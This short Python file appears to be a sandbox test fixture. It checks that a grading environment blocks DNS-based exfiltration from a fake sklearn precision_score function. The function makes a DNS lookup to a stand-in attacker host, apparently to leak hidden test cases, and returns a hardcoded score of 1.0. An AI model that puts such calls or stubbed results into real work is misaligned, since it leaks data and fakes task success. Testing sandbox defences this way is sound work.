# ruff: noqa: E501
# ATTACK: DNS lookup (to exfiltrate through a resolver)
# DEFENCE: network namespace without interfaces but loopback, no /etc/resolv.conf
# EXPECT: {"chapter": "07_metrics", "target": "precision_score", "scope": "exercise", "category": "forbidden", "reason": "gaierror|OSError"}
import socket


def precision_score(
    y_true,
    y_pred,
    *,
    labels=None,
    pos_label=1,
    average="binary",
    sample_weight=None,
    zero_division="warn",
):
    socket.getaddrinfo("hidden-cases.pwned.example.com", 53)
    return 1.0
